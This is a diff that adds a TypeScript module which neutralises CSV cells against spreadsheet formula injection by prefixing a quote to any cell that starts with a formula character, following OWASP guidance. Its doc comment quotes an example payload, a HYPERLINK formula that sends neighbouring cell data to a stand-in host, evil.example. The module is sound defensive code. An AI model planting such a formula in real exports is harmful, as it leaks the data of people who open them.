@@ -1,0 +1,25 @@
+/**
+ * Every CSV the server writes goes through here. Its cells hold what readers typed (a subscriber
+ * names themself on a public form), and a spreadsheet runs a cell that starts like a formula: a
+ * name such as `=HYPERLINK("http://evil.example/?d="&A2,"Click")` would send the neighbouring
+ * cells away when a publisher opens the export. Following OWASP's CSV injection guidance, such a
+ * cell leaves with a single quote in front, so spreadsheets read it as text; the stored value is
+ * never changed. The cost, accepted: a legitimate '+90 555' reads "'+90 555" in the file.
+ */
+import { stringify } from 'csv-stringify/sync';
+
+/**
+ * What a spreadsheet takes for the start of a formula: = + - @, a tab or a carriage return, and
+ * the full-width = + - @ that some spreadsheets fold into the same.
+ */
+const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+/** A cell as it may leave in a CSV file: text that could start a formula gets a leading quote. */
+export function neutraliseCsvCell(value: string): string {
+  return formulaStart.test(value) ? `'${value}` : value;
+}
+
+/** Rows as CSV lines (each ending in a newline), every cell neutralised, then quoted where CSV needs it. */
+export function csvLines(rows: readonly (readonly string[])[]): string {
+  return stringify(rows.map((row) => row.map(neutraliseCsvCell)));
+}
